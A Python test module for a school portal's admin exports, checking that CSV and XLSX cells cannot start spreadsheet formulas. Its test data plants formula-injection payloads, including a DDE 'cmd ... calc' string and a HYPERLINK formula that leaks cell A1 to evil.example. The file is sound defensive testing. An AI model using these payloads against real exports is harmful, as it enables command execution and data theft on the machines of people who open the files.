"""Formula injection (issue 15, item 6; ASVS 5.3.x, CWE-1236): no cell of any CSV
or XLSX the portal hands out may start a formula in a spreadsheet program.
Texts that people type (an appeal, a child's name, a commission's grounds, a
school's name from an import, a staff user's full name) are planted with
formula starts, and every export is read back cell by cell."""
import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from flask import current_app
from openpyxl import load_workbook
from sqlalchemy import select

from admin.scoping import ScopedModelView
from portal.exports import FORMULA_STARTS, safe_cell
from portal.extensions import db
from portal.models import Appeal, Application, CommissionDecision, MicrodistrictAddress, School, StaffUser
from tests.staff import ROLE_LOGINS, STAFF, sign_in
from tests.admin.test_reports_admin import client_of

APPEAL = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


def test_safe_cell_neutralises_every_formula_start_and_leaves_numbers_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Асанова =1") == "Асанова =1"
    assert safe_cell("") == "" and safe_cell(None) is None
    for value in (-5, 3.5, Decimal("-2"), True, date(2026, 4, 1), datetime(2026, 4, 1, tzinfo=timezone.utc)):
        assert safe_cell(value) == value
    assert safe_cell(12) == 12


def _dangerous(cells):
    return [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]


def _plant_formulas():
    for row in db.session.scalars(select(Appeal)):
        row.text = APPEAL
    for row in db.session.scalars(select(Application)):
        row.child_last_name, row.child_first_name = HYPERLINK, "+SUM(A1:A9)"
    for row in db.session.scalars(select(CommissionDecision)):
        row.grounds = "@SUM(1+1)*cmd|' /C calc'!A0"
    for row in db.session.scalars(select(MicrodistrictAddress)):
        row.added_reason = "-2+3+cmd|' /C calc'!A0"
    for row in db.session.scalars(select(School)):
        row.name_ky = row.name_ru = HYPERLINK
    for row in db.session.scalars(select(StaffUser)):
        row.full_name = "\t=1+1"
    db.session.commit()


@pytest.mark.parametrize("role", ["district", "ministry", "director", "commission"])
def test_no_cell_of_any_list_export_starts_a_formula(world, role):
    _plant_formulas()
    client = current_app.test_client()
    sign_in(client, ROLE_LOGINS[role])
    views = [view for view in current_app.extensions["portal_admin"]._views if isinstance(view, ScopedModelView)]
    exported = 0
    for view in views:
        response = client.get(f"/admin/{view.endpoint}/export/csv/")
        if response.status_code != 200:
            continue  # this role may not export this list
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not _dangerous(cells), f"{view.endpoint}: {_dangerous(cells)[:3]}"
        exported += len(rows) > 1
    assert exported, "no export of this role held a row"


def test_the_districts_appeal_csv_keeps_the_text_but_as_text(world):
    _plant_formulas()
    client = current_app.test_client()
    sign_in(client, STAFF["district_a"])
    rows = list(csv.reader(io.StringIO(client.get("/admin/appeal/export/csv/").get_data(as_text=True))))
    assert "'" + APPEAL in [cell for row in rows for cell in row]


def test_a_school_named_as_a_formula_is_text_in_the_ministrys_xlsx_and_csv_report(reports):
    for school in db.session.scalars(select(School)):
        school.name_ky = school.name_ru = HYPERLINK
    db.session.commit()
    client = client_of(reports, "ministry")
    district = db.session.scalars(select(School)).first().district_id
    workbook = load_workbook(io.BytesIO(client.get(f"/admin/reports/export/xlsx?district_id={district}").data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the report"
    values = [cell.value for cell in cells]
    assert "'" + HYPERLINK in values and not _dangerous(values)
    text = client.get(f"/admin/reports/export/csv?district_id={district}").get_data(as_text=True)
    values = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in values and not _dangerous(values)


def test_a_full_name_as_a_formula_is_text_in_the_activation_links_xlsx(portal):
    client = portal.test_client()
    sign_in(client, STAFF["district_a"])
    response = client.post("/admin/staff_user/provision/", data={
        "role": "director", "rows": 'new.039@example.kg, "=HYPERLINK(""https://evil.example"")", GB-LEN-039\n'})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'=HYPERLINK(\"https://evil.example\")" in [cell.value for cell in cells]
